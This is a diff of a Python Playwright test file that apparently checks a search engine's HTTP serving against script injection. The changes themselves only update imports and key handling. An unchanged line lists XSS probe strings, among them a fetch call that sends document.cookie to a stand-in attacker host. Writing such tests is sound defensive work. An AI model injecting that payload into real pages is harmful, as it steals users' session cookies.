@@ -12,7 +12,8 @@ from playwright.sync_api import Browser, Page, expect
 from tests.serving.http.browser import Served, Watched, browser, serve, tab, why_absent
 
 from fathom import Engine
-from fathom.serving.http.keys import Key, Keys
+from fathom.index.engines import EmbeddedIndex
+from fathom.serving.http.keys import Key, keys_of
 
 pytestmark = pytest.mark.skipif(bool(why_absent()), reason=why_absent() or "there is a browser")
 CALLS = ("hacked()", "alert(1)", "fetch('https://evil.example/'+document.cookie)")
@@ -68,7 +69,7 @@ def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
         (folder / "corpus" / f"{name}.md").write_text(text, encoding="utf-8")
     with Engine.open(folder / "index", {"offline": True}) as engine:
         assert engine.ingest([folder / "corpus"]).documents == len(PAYLOADS)
-    keys = Keys(folder / "index")
+    keys = keys_of(EmbeddedIndex(folder / "index"))
     _, key = keys.add(Key(id="", name="page"))
     keys.close()
     server = serve(folder / "index")
